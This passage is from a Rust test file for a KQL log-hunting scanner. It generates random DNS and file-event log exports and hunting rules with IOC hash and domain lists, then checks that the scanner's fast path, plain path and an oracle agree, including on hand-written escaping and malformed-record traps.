    bytes.iter().filter(|&&b| b == b'\n').count() as u64
}

/// A JSON-lines file: LF, CRLF or both, blank and white-space lines, a BOM, a last line
/// without its newline.
fn jsonl_file(rng: &mut Rng, vocab: &Vocab, file: usize, table: FileTable, placed: &mut Vec<Placed>) -> Vec<u8> {
    let mut out = Vec::new();
    if rng.percent(15) {
        out.extend_from_slice(b"\xEF\xBB\xBF");
    }
    let crlf = rng.below(3);
    let count = if rng.percent(5) { 0 } else { rng.range(1, 24) };
    for i in 0..count {
        if rng.percent(8) {
            let blank = rng.pick_copy(&["\n", "\r\n", "   \n", "\t\r\n"]);
            out.extend_from_slice(blank.as_bytes());
        }
        let line_start = out.len();
        let line = lines_in(&out) + 1;
        if rng.percent(5) {
            out.extend_from_slice(b"  ");
        }
        let record = match table {
            FileTable::Dns => dns_record(rng, vocab),
            FileTable::Dfe => dfe_record(rng, vocab),
        };
        let style = random_style(rng, None);
        let mut bytes = Vec::new();
        write_object(rng, &record.members, &style, 0, &mut bytes);
        let record = if rng.percent(4) {
            bytes = malformed_bytes(rng, &bytes, false);
            None
        } else {
            Some(record)
        };
        out.extend_from_slice(&bytes);
        if rng.percent(5) {
            out.push(b' ');
        }
        placed.push(Placed {
            file,
            offset: line_start as u64,
            line,
            bytes,
            record,
        });
        let last = i + 1 == count;
        if !last || rng.percent(70) {
            let crlf = crlf == 1 || (crlf == 2 && rng.percent(50));
            out.extend_from_slice(if crlf { b"\r\n" } else { b"\n" });
        }
    }
    out
}

/// A JSON array file, pretty-printed (LF or CRLF) or compact, sometimes with an empty element
/// (`,,`), which loghunt counts as a malformed record.
fn array_file(rng: &mut Rng, vocab: &Vocab, file: usize, table: FileTable, placed: &mut Vec<Placed>) -> Vec<u8> {
    let pretty = match rng.below(3) {
        0 => Some("\n"),
        1 => Some("\r\n"),
        _ => None,
    };
    let mut out = Vec::new();
    if rng.percent(15) {
        out.extend_from_slice(b"\xEF\xBB\xBF");
    }
    if rng.percent(20) {
        out.extend_from_slice(b" \n");
    }
    out.push(b'[');
    let count = if rng.percent(5) { 0 } else { rng.range(1, 24) };
    for i in 0..count {
        if i > 0 {
            out.push(b',');
            if rng.percent(3) {
                // An empty element: the reader reports it at the second comma.
                placed.push(Placed {
                    file,
                    offset: out.len() as u64,
                    line: lines_in(&out) + 1,
                    bytes: Vec::new(),
                    record: None,
                });
                out.push(b',');
            }
        }
        match pretty {
            Some(newline) => {
                out.extend_from_slice(newline.as_bytes());
                out.extend_from_slice(b"  ");
            }
            None if rng.percent(30) => out.push(b' '),
            None => {}
        }
        let record = match table {
            FileTable::Dns => dns_record(rng, vocab),
            FileTable::Dfe => dfe_record(rng, vocab),
        };
        let style = random_style(rng, pretty);
        let mut bytes = Vec::new();
        write_object(rng, &record.members, &style, 1, &mut bytes);
        let record = if rng.percent(4) {
            bytes = malformed_bytes(rng, &bytes, true);
            None
        } else {
            Some(record)
        };
        placed.push(Placed {
            file,
            offset: out.len() as u64,
            line: lines_in(&out) + 1,
            bytes: bytes.clone(),
            record,
        });
        out.extend_from_slice(&bytes);
    }
    if let Some(newline) = pretty {
        out.extend_from_slice(newline.as_bytes());
    }
    out.push(b']');
    if rng.percent(50) {
        out.push(b'\n');
    }
    out
}

// ---- random rules ----

fn needle_for(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> String {
    if rng.percent(3) {
        return String::new();
    }
    if rng.percent(3) {
        return rng.pick(RENDERED_NEEDLES).to_string();
    }
    // Sometimes a needle meant for another column: rules are not always sensible.
    let kind = if rng.percent(15) { *rng.pick(KINDS) } else { kind };
    match kind {
        Kind::Domain if rng.percent(60) => {
            let domain = vocab.domain(rng);
            if rng.percent(20) {
                domain.to_ascii_uppercase()
            } else {
                domain.to_string()
            }
        }
        Kind::Domain => rng.pick(DOMAIN_NEEDLES).to_string(),
        Kind::Host => rng.pick(HOST_NEEDLES).to_string(),
        Kind::Ip => rng.pick(IP_NEEDLES).to_string(),
        Kind::QueryType => rng.pick(QUERY_TYPE_NEEDLES).to_string(),
        Kind::Sha256 | Kind::Sha1 | Kind::Md5 => {
            let hash = rng.pick(vocab.hashes(kind)).clone();
            match rng.below(10) {
                0 => hash.to_ascii_uppercase(),
                1 => hash[..hash.len() / 2].to_string(),
                _ => hash,
            }
        }
        Kind::File => rng.pick(FILE_NAMES).to_string(),
        Kind::Path | Kind::Cmd => {
            if rng.percent(60) {
                rng.pick(PATH_NEEDLES).to_string()
            } else {
                vocab.domain(rng).to_string()
            }
        }
        Kind::Time => unreachable!("datetime columns get no string needles"),
        Kind::Additional => match rng.below(3) {
            0 => rng.pick(&vocab.sha256).clone(),
            1 => vocab.domain(rng).to_string(),
            _ => rng.pick(PATH_NEEDLES).to_string(),
        },
    }
}

fn random_op(rng: &mut Rng) -> Op {
    let test = *rng.pick(&Test::ALL);
    let list_only = matches!(test, Test::HasAny | Test::HasAll);
    Op {
        test,
        // `has_any_cs` and `!has_any` are not in the supported subset (nor is the former KQL).
        case_sensitive: !list_only && rng.percent(40),
        negated: !list_only && rng.percent(30),
    }
}

/// `datetime(...)` literals near the records' times, in the spellings Kusto takes.
const TIME_LITERALS: &[&str] = &[
    "2026-05-27T08:01:05Z",
    "2026-05-27 08:01:05.5",
    "2026-05-27T08:01:05.0000001Z",
    "2026-05-26",
    "2026-05-27T09:01:05+01:00",
    "2026-05-28T10:00:00Z",
];

fn random_leaf(rng: &mut Rng, vocab: &Vocab, columns: &[(String, Kind)]) -> Pred {
    let (column, kind) = rng.pick(columns).clone();
    if kind == Kind::Time {
        let literal = rng.pick(TIME_LITERALS).to_string();
        let ticks = parse_datetime(&literal).expect("the literals parse");
        return Pred::Time {
            column,
            cmp: *rng.pick(&Cmp::ALL),
            literal,
            ticks,
        };
    }
    if rng.percent(8) {
        return Pred::IsEmpty {
            column,
            negated: rng.percent(50),
        };
    }
    let op = random_op(rng);
    let count = if op.takes_list() {
        if rng.percent(8) {
            0
        } else {
            rng.range(1, 4)
        }
    } else {
        1
    };
    let needles = (0..count).map(|_| needle_for(rng, vocab, kind)).collect();
    Pred::Test { column, op, needles }
}

fn random_pred(rng: &mut Rng, vocab: &Vocab, columns: &[(String, Kind)], depth: u32) -> Pred {
    if depth == 0 || rng.percent(40) {
        return random_leaf(rng, vocab, columns);
    }
    match rng.below(5) {
        0 => Pred::Not(Box::new(random_pred(rng, vocab, columns, depth - 1))),
        1 | 2 => Pred::And(
            (0..rng.range(2, 3))
                .map(|_| random_pred(rng, vocab, columns, depth - 1))
                .collect(),
        ),
        _ => Pred::Or(
            (0..rng.range(2, 3))
                .map(|_| random_pred(rng, vocab, columns, depth - 1))
                .collect(),
        ),
    }
}

/// A KQL string literal for `text`: double- or single-quoted with escapes, verbatim `@"..."`,
/// or obfuscated `h"..."`. `in_dynamic` keeps to the forms `dynamic([...])` takes.
fn kql_string(rng: &mut Rng, text: &str, in_dynamic: bool) -> String {
    let escaped = |quote: char| {
        let mut s = String::new();
        for c in text.chars() {
            match c {
                '\\' => s.push_str("\\\\"),
                '\t' => s.push_str("\\t"),
                '\n' => s.push_str("\\n"),
                '\r' => s.push_str("\\r"),
                c if c == quote => {
                    s.push('\\');
                    s.push(c);
                }
                c => s.push(c),
            }
        }
        s
    };
    let form = if in_dynamic { rng.below(2) } else { rng.below(6) };
    match form {
        0 | 2 => format!("\"{}\"", escaped('"')),
        1 => format!("'{}'", escaped('\'')),
        3 if !text.contains(['\n', '\r']) => format!("@\"{}\"", text.replace('"', "\"\"")),
        4 => format!("h\"{}\"", escaped('"')),
        _ => format!("\"{}\"", escaped('"')),
    }
}

/// The `let` statements a rule collects while its predicates are rendered.
struct Lets {
    statements: Vec<String>,
    /// Lists already bound to a name, so that one list can serve several columns, as in
    /// `SHA256 in (hashes) or SHA1 in (hashes)`.
    lists: Vec<(Vec<String>, String)>,
}

impl Lets {
    fn name(&self, prefix: &str) -> String {
        format!("{prefix}_{}", self.statements.len())
    }
}

fn dynamic_list(rng: &mut Rng, needles: &[String]) -> String {
    let mut items: Vec<String> = needles.iter().map(|n| kql_string(rng, n, true)).collect();
    // Nested arrays are flattened: `dynamic(["a", ["b"]])` is the list a, b.
    if items.len() >= 2 && rng.percent(20) {
        let tail = items.split_off(1);
        items.push(format!("[{}]", tail.join(", ")));
    }
    let separator = if rng.percent(20) { ",\n    " } else { ", " };
    format!("dynamic([{}])", items.join(separator))
}

fn render_list(rng: &mut Rng, needles: &[String], lets: &mut Lets) -> String {
    if let Some((_, name)) = lets.lists.iter().find(|(list, _)| list == needles) {
        if rng.percent(80) {
            return format!("({name})");
        }
    }
    match rng.below(4) {
        0 | 1 => {
            let name = lets.name("ioc");
            let list = dynamic_list(rng, needles);
            lets.statements.push(format!("let {name} = {list};"));
            lets.lists.push((needles.to_vec(), name.clone()));
            format!("({name})")
        }
        2 if !needles.is_empty() => {
            let items: Vec<String> = needles.iter().map(|n| kql_string(rng, n, false)).collect();
            format!("({})", items.join(", "))
        }
        _ => format!("({})", dynamic_list(rng, needles)),
    }
}

fn render_pred(rng: &mut Rng, pred: &Pred, lets: &mut Lets) -> String {
    let part = |rng: &mut Rng, p: &Pred, lets: &mut Lets, needs_parens: bool| {
        let text = render_pred(rng, p, lets);
        if needs_parens || rng.percent(10) {
            format!("({text})")
        } else {
            text
        }
    };
    match pred {
        Pred::And(parts) => {
            let joiner = if rng.percent(20) { "\n    and " } else { " and " };
            let parts: Vec<String> = parts
                .iter()
                .map(|p| part(rng, p, lets, matches!(p, Pred::Or(_))))
                .collect();
            parts.join(joiner)
        }
        Pred::Or(parts) => {
            let parts: Vec<String> = parts.iter().map(|p| part(rng, p, lets, false)).collect();
            parts.join(" or ")
        }
        Pred::Not(inner) => format!("not({})", render_pred(rng, inner, lets)),
        Pred::IsEmpty { column, negated } => {
            format!("{}({column})", if *negated { "isnotempty" } else { "isempty" })
        }
        Pred::Time {
            column, cmp, literal, ..
        } => format!("{column} {} datetime({literal})", cmp.kql()),
        Pred::Test { column, op, needles } => {
            let right = if op.takes_list() {
                render_list(rng, needles, lets)
            } else if rng.percent(15) {
                let name = lets.name("s");
                let literal = kql_string(rng, &needles[0], false);
                lets.statements.push(format!("let {name} = {literal};"));
                name
            } else {
                kql_string(rng, &needles[0], false)
            };
            format!("{column} {} {right}", op.kql())
        }
    }
}

/// A predicate shaped like the seed rules': one IOC list looked up in the hash columns
/// (`SHA256 in (h) or SHA1 in (h) or MD5 in (h)`), or domains `has_any` in `Name`.
fn ioc_shaped_pred(rng: &mut Rng, vocab: &Vocab, table: &TableSpec) -> Pred {
    let test = |column: &str, test: Test, case_sensitive: bool, needles: &[String]| Pred::Test {
        column: column.to_string(),
        op: Op {
            test,
            case_sensitive,
            negated: false,
        },
        needles: needles.to_vec(),
    };
    let mut leaves = Vec::new();
    if *table == DFE {
        // Each rule lists most of the vocabulary, not all of it: with several rules, a value is
        // then in some rules' sets and not in others', which the fast path must tell apart.
        let mut needles: Vec<String> = [&vocab.sha256, &vocab.sha1, &vocab.md5]
            .into_iter()
            .flatten()
            .filter(|_| rng.percent(80))
            .cloned()
            .collect();
        for _ in 0..rng.below(3) {
            let len = *rng.pick(&[64, 40, 32]);
            needles.push(random_hex(rng, len));
        }
        rng.shuffle(&mut needles);
        let (op, cs) = match rng.below(10) {
            0..=6 => (Test::In, true),
            7 | 8 => (Test::In, false),
            _ => (Test::HasAny, false),
        };
        let mut columns = vec!["SHA256", "SHA1", "MD5"];
        if rng.percent(40) {
            columns.truncate(1);
            rng.shuffle(&mut columns);
        }
        for column in columns {
            leaves.push(test(column, op, cs, &needles));
        }
        if rng.percent(20) {
            let column = *rng.pick(&["AdditionalFields", "InitiatingProcessCommandLine"]);
            leaves.push(test(column, Test::HasAny, false, &needles));
        }
    } else {
        let mut needles: Vec<String> = vocab
            .domains
            .iter()
            .filter(|_| rng.percent(80))
            .map(|d| d.to_string())
            .collect();
        for _ in 0..rng.below(3) {
            needles.push(rng.pick(DOMAIN_NEEDLES).to_string());
        }
        rng.shuffle(&mut needles);
        let (op, cs) = match rng.below(10) {
            0..=5 => (Test::HasAny, false),
            6 | 7 => (Test::In, false),
            _ => (Test::In, true),
        };
        leaves.push(test("Name", op, cs, &needles));
        if rng.percent(15) {
            leaves.push(test("Computer", op, cs, &needles));
        }
    }
    if leaves.len() == 1 {
        leaves.pop().expect("one leaf")
    } else {
        Pred::Or(leaves)
    }
}

/// One output column of `project`: its name and the table column it reads.
#[derive(Debug, Clone)]
struct Projected {
    name: String,
    source: &'static str,
    is_time: bool,
}

/// A random rule: its KQL text, and the trees it was rendered from, which the oracle evaluates
/// instead of re-parsing the text.
#[derive(Debug)]
struct GenRule {
    table: &'static TableSpec,
    text: String,
    wheres: Vec<Pred>,
    project: Vec<Projected>,
    /// A `where` after `project`, over the projected names.
    post_where: Option<Pred>,
    order: Vec<OrderKey>,
    take: Option<usize>,
}

const ALIASES: &[&str] = &[
    "Host", "Domain", "Q", "Hash", "Name", "Computer", "Path", "When", "SHA1",
];

fn random_rule(rng: &mut Rng, vocab: &Vocab, table: &'static TableSpec) -> GenRule {
    let mut columns: Vec<(String, Kind)> = table.columns.iter().map(|&(c, k)| (c.to_string(), k)).collect();
    columns.push((table.time.to_string(), Kind::Time));
    let mut lets = Lets {
        statements: Vec::new(),
        lists: Vec::new(),
    };
    let mut body = vec![table.name.to_string()];
    let mut wheres = Vec::new();
    // Mostly one `where`, mostly shallow: deep random trees are almost always constant. Many
    // rules have the shape of real hunting rules, which a fast path is most likely to special-case.
    let count = if rng.percent(25) { 2 } else { 1 };
    for i in 0..count {
        let depth = *rng.pick(&[0, 1, 1, 2, 2, 3]);
        let pred = if i == 0 && rng.percent(40) {
            ioc_shaped_pred(rng, vocab, table)
        } else {
            random_pred(rng, vocab, &columns, depth)
        };
        body.push(format!("| where {}", render_pred(rng, &pred, &mut lets)));
        wheres.push(pred);
    }

    // project: the time column and string columns, sometimes renamed (even to another
    // column's name, which is legal: `project` reads its input row).
    let mut sources: Vec<(&'static str, bool)> = table.columns.iter().map(|&(c, _)| (c, false)).collect();
    sources.push((table.time, true));
    rng.shuffle(&mut sources);
    sources.truncate(rng.range(1, 4));
    let mut project: Vec<Projected> = Vec::new();
    for (source, is_time) in sources {
        let alias = *rng.pick(ALIASES);
        let name = if rng.percent(30) { alias } else { source }.to_string();
        if project.iter().any(|p| p.name == name) {
            continue;
        }
        project.push(Projected { name, source, is_time });
    }
    let items: Vec<String> = project
        .iter()
        .map(|p| {
            if p.name == p.source {
                p.name.clone()
            } else {
                format!("{} = {}", p.name, p.source)
            }
        })
        .collect();
    body.push(format!("| project {}", items.join(", ")));

    let outputs: Vec<(String, Kind)> = project
        .iter()
        .map(|p| {
            let kind = table.columns.iter().find(|(c, _)| *c == p.source).map(|&(_, k)| k);
            (p.name.clone(), kind.unwrap_or(Kind::Time))
        })
        .collect();
    let post_where = if rng.percent(20) {
        let pred = random_pred(rng, vocab, &outputs, 1);
        body.push(format!("| where {}", render_pred(rng, &pred, &mut lets)));
        Some(pred)
    } else {
        None
    };

    let mut order = Vec::new();
    if rng.percent(45) {
        let mut keys = Vec::new();
        for _ in 0..rng.range(1, 2) {
            let column = rng.below(project.len());
            let (direction, descending) = match rng.below(3) {
                0 => ("", true),
                1 => (" asc", false),
                _ => (" desc", true),
            };
            let (nulls, nulls_first) = match rng.below(5) {
                0 => (" nulls first", true),
                1 => (" nulls last", false),
                _ => ("", !descending),
            };
            keys.push(format!("{}{direction}{nulls}", project[column].name));
            order.push(OrderKey {
                column,
                descending,
                nulls_first,
            });
        }
        let verb = if rng.percent(80) { "order by" } else { "sort by" };
        body.push(format!("| {verb} {}", keys.join(", ")));
    }
    let take = rng.percent(30).then(|| rng.range(0, 6));
    if let Some(n) = take {
        body.push(format!("| {} {n}", if rng.percent(70) { "take" } else { "limit" }));
    }

    let mut text = String::new();
    if rng.percent(20) {
        text.push_str("// random rule: has \"x\" | where 'quotes'\n");
    }
    for statement in &lets.statements {
        text.push_str(statement);
        text.push('\n');
    }
    text.push_str(&body.join("\n"));
    text.push('\n');
    GenRule {
        table,
        text,
        wheres,
        project,
        post_where,
        order,
        take,
    }
}

// ---- a whole case ----

struct Case {
    _dir: tempfile::TempDir,
    files: Vec<LogFile>,
    file_tables: Vec<FileTable>,
    placed: Vec<Placed>,
    rules: Vec<GenRule>,
}

fn write_files(generated: Vec<GeneratedFile>) -> (tempfile::TempDir, Vec<LogFile>, Vec<FileTable>) {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let mut files = Vec::new();
    let mut tables = Vec::new();
    for file in generated {
        let path: PathBuf = dir.path().join(&file.name);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("create the file's folder");
        std::fs::write(&path, &file.bytes).expect("write the file");
        files.push(LogFile {
            size: file.bytes.len() as u64,
            path,
        });
        tables.push(file.table);
    }
    (dir, files, tables)
}

fn random_case(rng: &mut Rng) -> Case {
    let vocab = &Vocab::new(rng);
    let mut placed = Vec::new();
    let mut generated = Vec::new();
    for file in 0..rng.range(1, 4) {
        let table = if rng.percent(50) {
            FileTable::Dns
        } else {
            FileTable::Dfe
        };
        let array = rng.percent(40);
        let bytes = if array {
            array_file(rng, vocab, file, table, &mut placed)
        } else {
            jsonl_file(rng, vocab, file, table, &mut placed)
        };
        let extension = if array { "json" } else { "jsonl" };
        let name = match (table, rng.percent(50)) {
            (FileTable::Dns, true) => format!("la/y=2026/PT05M-{file}.{extension}"),
            (FileTable::Dns, false) => format!("export-{file}.{extension}"),
            (FileTable::Dfe, true) => format!("DeviceFileEvents/part-{file}.{extension}"),
            (FileTable::Dfe, false) => format!("defender/devicefileevents-{file}.{extension}"),
        };
        generated.push(GeneratedFile { name, table, bytes });
    }
    // Rules read the tables the files hold (and now and then one with no records at all).
    // Now and then many, as feeds come: the fast path must find every rule a record matches.
    let count = if rng.percent(20) {
        rng.range(3, 9)
    } else {
        rng.range(1, 3)
    };
    let rules = (0..count)
        .map(|_| {
            let table = match generated.get(rng.below(generated.len() + 1)) {
                Some(GeneratedFile {
                    table: FileTable::Dfe, ..
                }) => &DFE,
                Some(_) => &DNS,
                None if rng.percent(50) => &DFE,
                None => &DNS,
            };
            random_rule(rng, vocab, table)
        })
        .collect();
    let (dir, files, file_tables) = write_files(generated);
    Case {
        _dir: dir,
        files,
        file_tables,
        placed,
        rules,
    }
}

fn compile(rules: &[GenRule], context: &str) -> Plan {
    let loaded: Vec<_> = rules
        .iter()
        .enumerate()
        .map(|(i, rule)| {
            let path = format!("r{i}.kql");
            let (rule, _) = load_text(Path::new(&path), &rule.text)
                .unwrap_or_else(|e| panic!("{context}: rule r{i} does not load: {e}\n{}", rules[i].text));
            rule
        })
        .collect();
    let now = parse_datetime(NOW).expect("NOW parses");
    Plan::compile(&loaded, now).unwrap_or_else(|e| {
        let texts: Vec<String> = rules.iter().map(|r| r.text.clone()).collect();
        panic!("{context}: a random rule does not compile: {e}\n{}", texts.join("\n"))
    })
}

// ---- running the scans ----

/// What one scan produced, in comparable form.
#[derive(Debug, PartialEq)]
struct Outcome {
    hits: Vec<Vec<(Position, Vec<Value>)>>,
    records: u64,
    matched: u64,
    malformed: u64,
    /// Per file: bytes, records, malformed, problems.
    files: Vec<(u64, u64, u64, Vec<String>)>,
    /// Compared only between runs with the same `prefilter` setting (see `compare`).
    tables: BTreeMap<String, TableCount>,
    malformed_shown: Vec<Malformed>,
}

fn run_scan(pool: &rayon::ThreadPool, plan: &Plan, files: &[LogFile], chunk_size: usize, prefilter: bool) -> Outcome {
    let options = ScanOptions {
        threads: pool.current_num_threads(),
        chunk_size,
        table: None,
        prefilter,
        csv: Default::default(),
        now: 0,
        max_memory: usize::MAX,
    };
    let (hits, stats) = pool.install(|| scan(plan, files, &options));
    Outcome {
        hits: hits
            .into_iter()
            .map(|rule| rule.into_iter().map(|h| (h.position, h.row)).collect())
            .collect(),
        records: stats.records,
        matched: stats.matched,
        malformed: stats.malformed,
        files: stats
            .files
            .iter()
            .map(|f| (f.bytes, f.records, f.malformed, f.problems.clone()))
            .collect(),
        tables: stats.tables,
        malformed_shown: stats.malformed_shown,
    }
}

struct Pools {
    one: rayon::ThreadPool,
    two: rayon::ThreadPool,
}

impl Pools {
    fn new() -> Pools {
        let pool = |n| rayon::ThreadPoolBuilder::new().num_threads(n).build().expect("a pool");
        Pools {
            one: pool(1),
            two: pool(2),
        }
    }
}

/// Chunk sizes every case is scanned with: one record per unit, and units cut mid-file.
const SMALL_CHUNKS: [usize; 2] = [1, 97];
/// The default chunk size: each of these small files is one unit.
const BIG_CHUNK: usize = 8 << 20;
/// Every this many cases also scan with [`BIG_CHUNK`]. In a debug build the JSON-lines reader
/// zero-fills a buffer of the chunk size twice per file (~100 ms per scan at 8 MiB against
/// ~5 ms for everything else), so scanning every case with it would blow the time budget.
const BIG_CHUNK_EVERY: usize = 8;

/// Scans under every configuration — prefilter on and off, one and two threads, chunks of 1
/// and 97 bytes and (when `big`) 8 MiB — and checks that all agree with the plain path at one
/// thread and 97-byte chunks. Returns that reference outcome.
fn scan_every_way(pools: &Pools, plan: &Plan, files: &[LogFile], big: bool, context: &str) -> Outcome {
    let reference = run_scan(&pools.one, plan, files, 97, false);
    let mut chunks = SMALL_CHUNKS.to_vec();
    if big {
        chunks.push(BIG_CHUNK);
    }
    for prefilter in [false, true] {
        for pool in [&pools.one, &pools.two] {
            for &chunk in &chunks {
                if !prefilter && pool.current_num_threads() == 1 && chunk == 97 {
                    continue; // the reference itself
                }
                let outcome = run_scan(pool, plan, files, chunk, prefilter);
                let config = format!(
                    "prefilter {prefilter}, threads {}, chunk size {chunk}",
                    pool.current_num_threads()
                );
                compare(&reference, &outcome, &format!("{context}; {config}"));
            }
        }
    }
    reference
}

/// The fast path may not change any hit or any count. Which table a skipped record belonged
/// to, and the messages of malformed records, are summary details a prefilter might not know
/// without parsing, so those are compared only between runs of the same path.
fn compare(reference: &Outcome, other: &Outcome, context: &str) {
    for (rule, (want, got)) in reference.hits.iter().zip(&other.hits).enumerate() {
        if want != got {
            panic!(
                "{context}: rule r{rule} hits differ from the plain path's\n{}",
                diff_hits(want, got)
            );
        }
    }
    let counts = |o: &Outcome| (o.records, o.matched, o.malformed, o.files.clone());
    assert_eq!(
        counts(reference),
        counts(other),
        "{context}: (records, matched, malformed, per-file bytes/records/malformed/problems) differ from the plain path's"
    );
    // The fast path must account for what it skips exactly as the plain path does.
    assert_eq!(reference.tables, other.tables, "{context}: per-table counts differ");
    assert_eq!(
        reference.malformed_shown, other.malformed_shown,
        "{context}: malformed records listed differ"
    );
}

fn diff_hits(want: &[(Position, Vec<Value>)], got: &[(Position, Vec<Value>)]) -> String {
    let mut text = format!("expected {} rows, got {}\n", want.len(), got.len());
    for i in 0..want.len().max(got.len()) {
        let (w, g) = (want.get(i), got.get(i));
        if w != g {
            let _ = writeln!(
                text,
                "  first difference at row {i}:\n    expected {w:?}\n    got      {g:?}"
            );
            break;
        }
    }
    text
}

// ---- the oracle's answer ----

fn record_table(record: &Record, file_table: FileTable) -> Option<&str> {
    match record.get("Type") {
        Some(Field::Str(name)) => Some(name.as_str()),
        // No `Type` (or not a string): the path decides. Dns files name no table, and their
        // records always carry a `Type`, so the columns never have to decide.
        _ => match file_table {
            FileTable::Dfe => Some("DeviceFileEvents"),
            FileTable::Dns => unreachable!("Dns records always have a string Type"),
        },
    }
}

/// The rows a rule returns according to the oracle, and which records it matched before its
/// tail (for `Stats::matched`).
fn oracle_rows(case: &Case, rule: &GenRule) -> (Vec<(Position, Vec<Value>)>, Vec<Position>) {
    let mut rows = Vec::new();
    let mut matched = Vec::new();
    for placed in &case.placed {
        let Some(record) = &placed.record else { continue };
        if record_table(record, case.file_tables[placed.file]) != Some(rule.table.name) {
            continue;
        }
        let cell = |column: &str| {
            if column == rule.table.time {
                Cell::Time(record.datetime(column))
            } else {
                Cell::Text(record.text(column))
            }
        };
        if !rule.wheres.iter().all(|w| w.holds(&cell)) {
            continue;
        }
        let row: Vec<Value> = rule
            .project
            .iter()
            .map(|p| {
                if p.is_time {
                    record.datetime(p.source).map_or(Value::Null, Value::DateTime)
                } else {
                    Value::String(record.text(p.source))
                }
            })
            .collect();
        if let Some(post) = &rule.post_where {
            let cell = |name: &str| {
                let at = rule
                    .project
                    .iter()
                    .position(|p| p.name == name)
                    .expect("a projected name");
                match &row[at] {
                    Value::String(s) => Cell::Text(s.clone()),
                    Value::DateTime(t) => Cell::Time(Some(*t)),
                    Value::Null => Cell::Time(None),
                    other => panic!("the oracle projects strings and datetimes only, got {other:?}"),
                }
            };
            if !post.holds(&cell) {
                continue;
            }
        }
        matched.push(placed.position());
        rows.push((placed.position(), row));
    }
    rows.sort_by(|a, b| oracle::compare_rows(&rule.order, &a.1, &b.1));
    if let Some(n) = rule.take {
        rows.truncate(n);
    }
    (rows, matched)
}

/// Checks the reference scan against the oracle: every rule's rows (positions and values, in
/// order), and the record, match and malformed counts.
fn check_oracle(case: &Case, outcome: &Outcome, context: &str) {
    let mut matched_any = std::collections::BTreeSet::new();
    for (i, rule) in case.rules.iter().enumerate() {
        let (want, matched) = oracle_rows(case, rule);
        matched_any.extend(matched);
        let got = &outcome.hits[i];
        if &want != got {
            panic!(
                "{context}: rule r{i} disagrees with the oracle\n{}\n{}rule:\n{}",
                diff_hits(&want, got),
                explain(case, &want, got),
                rule.text
            );
        }
    }
    let records = case.placed.len() as u64;
    let malformed = case.placed.iter().filter(|p| p.record.is_none()).count() as u64;
    assert_eq!(
        (outcome.records, outcome.malformed, outcome.matched),
        (records, malformed, matched_any.len() as u64),
        "{context}: (records, malformed, matched) disagree with the oracle"
    );
}

/// The records behind the first rows on which loghunt and the oracle disagree, as written.
fn explain(case: &Case, want: &[(Position, Vec<Value>)], got: &[(Position, Vec<Value>)]) -> String {
    let mut text = String::new();
    let only = |a: &[(Position, Vec<Value>)], b: &[(Position, Vec<Value>)]| -> Vec<Position> {
        a.iter()
            .map(|(p, _)| *p)
            .filter(|p| !b.iter().any(|(q, _)| q == p))
            .collect()
    };
    for (label, positions) in [
        ("only the oracle returns", only(want, got)),
        ("only loghunt returns", only(got, want)),
    ] {
        for position in positions.into_iter().take(3) {
            let placed = case.placed.iter().find(|p| p.position() == position);
            let bytes = placed.map_or_else(String::new, |p| String::from_utf8_lossy(&p.bytes).into_owned());
            let _ = writeln!(text, "{label} {position:?}:\n  {bytes}");
        }
    }
    text
}

fn run_random_cases(test: &str, default_seed: u64, default_count: usize) {
    let pools = Pools::new();
    let mut index = 0;
    for_each_case(test, default_seed, default_count, |rng, context| {
        let case = random_case(rng);
        let plan = compile(&case.rules, context);
        let big = index % BIG_CHUNK_EVERY == 0;
        index += 1;
        let reference = scan_every_way(&pools, &plan, &case.files, big, context);
        check_oracle(&case, &reference, context);
    });
}

// Two tests of the same kind with different seeds, so that the harness runs them side by side.

#[test]
fn fast_path_plain_path_and_oracle_agree_on_random_exports() {
    run_random_cases(
        "fast_path_plain_path_and_oracle_agree_on_random_exports",
        0xD1FF_0000,
        40,
    );
}

#[test]
fn fast_path_plain_path_and_oracle_agree_on_more_random_exports() {
    run_random_cases(
        "fast_path_plain_path_and_oracle_agree_on_more_random_exports",
        0xD1FF_1000,
        40,
    );
}

// ====================================================================================
// Hand-written traps for a raw-byte prefilter
// ====================================================================================

/// An IOC hash for the traps: 64 hex digits, starting with a letter so it can be `\u`-escaped.
const H: &str = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";

/// Records that each defeat one shortcut a raw-byte prefilter could take: needle characters
/// written as `\u` escapes, `\/`, `\\`, case, escaped keys and table names, keys of nested
/// objects, duplicate keys, numbers read as text, malformed lines without any needle. Each
/// rule lists the `(file, line)` of the records it must return, worked out by hand from the
/// README's semantics.
#[test]
fn records_that_hide_or_fake_matches_in_their_raw_bytes() {
    let dns_lines = [
        r#"{"Type":"DnsEvents","Name":"moocow\u002emy"}"#,
        r#"{"Type":"DnsEvents","Name":"\u004dOOCOW.MY"}"#,
        r#"{"Type":"DnsEvents","Name":"http:\/\/moocow.my\/gate.php"}"#,
        r#"{"Type":"DnsEvents","N\u0061me":"moocow.my"}"#,
        r#"{"Type":"Dns\u0045vents","Name":"moocow.my"}"#,
        r#"{"Type":"DnsEvents","Properties":{"Name":"moocow.my"},"Name":"benign.example"}"#,
        r#"{"Type":"DnsEvents","Name":1.0e2}"#,
        r#"{"Type":"DnsEvents","Name":"moocow.my","Name":"benign.example"}"#,
        r#"{"Type":"DnsEvents","Name":"benign.example","Name":"moocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"no needle here""#,
        r#"{"Type":"DnsEvents"}"#,
        r#"{"Type":"DnsEvents","Name":"a\\moocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"\ud83d\ude00moocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"caf\u00e9.example"}"#,
        r#"{"Type":"dnsevents","Name":"moocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"x\u002dmoocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"xmoocow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"moo\u0063ow.my"}"#,
        r#"{"Type":"DnsEvents","Name":"MOOCOW.MY"}"#,
        r#"{ "Type" : "DnsEvents" , "Name" : "moocow.my" }"#,
        r#"{"Type":"DnsEvents","Properties":{"Name":"benign.example"},"Name":"moocow.my"}"#,
    ];
    let dfe_lines = [
        format!(r#"{{"SHA256":"{H}","FileName":"a.exe"}}"#),
        format!(r#"{{"SHA256":"0000","AdditionalFields":{{"SHA256":"{H}"}}}}"#),
